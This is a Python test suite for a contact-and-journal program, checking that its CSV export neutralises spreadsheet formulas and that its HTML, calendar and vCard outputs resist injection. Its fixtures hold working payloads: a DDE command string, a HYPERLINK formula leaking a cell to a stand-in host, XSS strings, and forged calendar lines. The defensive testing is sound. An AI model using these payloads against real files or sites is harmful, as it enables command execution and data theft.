#!/usr/bin/env python3
"""Tables for spreadsheets: with --excel-safe no cell starts a formula, and import takes it back exactly.

usage: tables.py PROGRAM
"""
import csv, html.parser, io, os, sys, unittest

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "../support"))
from everything import dump, fill
from home import Home as HomeOf

PROGRAM = os.path.abspath(sys.argv.pop(1))
STARTS = ["=", "+", "-", "@", "\t", "\r", "\n=", " =", "'", "''", "'=", "\"=", "＝", "＋", "－", "＠", ";=", ",="]
FORMULA = "=HYPERLINK(\"http://site.example?\"&A1,\"x\")"


def Home(like=None):
    return HomeOf(PROGRAM, like)


def starts_a_formula(cell):
    return cell[:1] in ("=", "+", "-", "@", "\t", "\r")


def rows(text):
    return list(csv.reader(io.StringIO(text, newline=""), strict=True))


class ExcelSafe(unittest.TestCase):
    """A text that begins as formulas do stands in every field."""

    def export(self, home, what, *more):
        return home.run("export", "--what", what, "--format", "csv", "--include-private", *more).stdout.decode()

    def test_no_cell_begins_a_formula(self):
        dangerous = 0
        for start in STARTS:
            home = fill(Home(), lambda kind, field: (start + "cmd|'/c'!A0,\";\n=x").replace(" " if field == "tags" else "\0", ""))
            for what in ("people", "journal", "due", "agenda", "promises"):
                for more in ((), ("--archived",)) if what == "people" else ((),):
                    cells = [cell for row in rows(self.export(home, what, "--excel-safe", *more)) for cell in row]
                    self.assertEqual([cell for cell in cells if starts_a_formula(cell)], [], (start, what))
                    dangerous += any(starts_a_formula(cell) for row in rows(self.export(home, what, *more)) for cell in row)
        self.assertGreater(dangerous, 30)  # the control: without the option they do

    def people(self):
        home = Home()
        made = []
        for number, start in enumerate(STARTS):
            ident, text = "%05d06fmaxp" % number, "%s%s %s Lund" % (start, FORMULA, chr(ord("A") + number) * 5)
            made.append({"type": "person", "id": "p" + ident, "handle": "p%d" % number, "name": text.strip(), "relation": text.strip(),
                         "added_on": "2026-01-01"})
            made.append({"type": "job", "id": "b" + ident, "person": "p" + ident, "org": text.strip(), "role": text.strip()})
            made.append({"type": "interaction", "id": "c" + ident, "date": "2026-10-%02d" % (number + 1), "people": ["p" + ident],
                         "text": text, "place": text, "kind": "call"})
        dump(home, made)
        home.ok("import", "everything.jsonl")
        return home

    def test_import_takes_it_back_exactly(self):
        home = self.people()
        copy = Home()
        for what in ("people", "journal"):
            name = what + ".csv"
            for one in (home, copy):
                with open(os.path.join(one.path, name), "w", newline="") as file:
                    file.write(self.export(home, what, "--excel-safe"))
            copy.ok("import", name)
        for what in ("people", "journal"):
            for more in ((), ("--excel-safe",)):
                said, again = (self.export(one, what, *more) for one in (home, copy))
                self.assertGreater(len(said), 1000)
                if what == "people":
                    self.assertEqual(rows(again), rows(said))
                else:  # ids are by chance
                    self.assertEqual([row[1:] for row in rows(again)], [row[1:] for row in rows(said)])

    def test_the_control_finds_a_text_that_is_not_taken_back(self):
        said = rows(self.export(self.people(), "journal", "--excel-safe"))
        plain = rows(self.export(self.people(), "journal"))
        self.assertNotEqual([row[1:] for row in said], [row[1:] for row in plain])


class Pages(unittest.TestCase):
    """What a browser, a calendar or an address book reads holds the text as text."""

    EVIL = "</script><script>alert(1)</script><img src=x onerror=alert(1)>\"'>&lt;"

    def test_a_page_of_html_is_made_of_its_own_elements_only(self):
        plain, evil = Home(), Home()
        elements = []
        for home, text in ((plain, "plain"), (evil, self.EVIL)):
            fill(home, lambda kind, field: text.replace(" ", "") if field == "tags" else text)
            seen = []

            class Reader(html.parser.HTMLParser):
                def handle_starttag(self, tag, attributes):
                    seen.append((tag, sorted(name for name, _ in attributes)))

            Reader().feed(home.ok("stats", "--html", "-"))
            elements.append(seen)
        self.assertEqual(*elements)
        self.assertGreater(len(elements[0]), 20)
        self.assertIn("&lt;script", evil.ok("stats", "--html", "-"))  # the control: the text is in it

    def test_lines_of_calendars_and_cards_are_not_forged(self):
        text = "x\r\nEND:VCALENDAR\r\nBEGIN:VEVENT\r\nEND:VCARD\r\nATTACH:http://site.example"
        home = fill(Home(), lambda kind, field: text.replace(" ", "") if field == "tags" else text)
        for form in ("ics", "vcf"):
            said = home.ok("export", "--format", form, "--include-private")
            self.assertEqual([line for line in said.split("\r\n") if line.startswith("ATTACH")], [])
            self.assertEqual(said.count("\r\nEND:VCALENDAR"), form == "ics")
            self.assertEqual(said.count("\r\nEND:VCARD"), 3 * (form == "vcf"))
            self.assertIn("END:VCA", said.replace("\r\n ", "").replace("\r\nEND:", ""))  # the control: it is in it


if __name__ == "__main__":
    unittest.main(warnings="ignore")
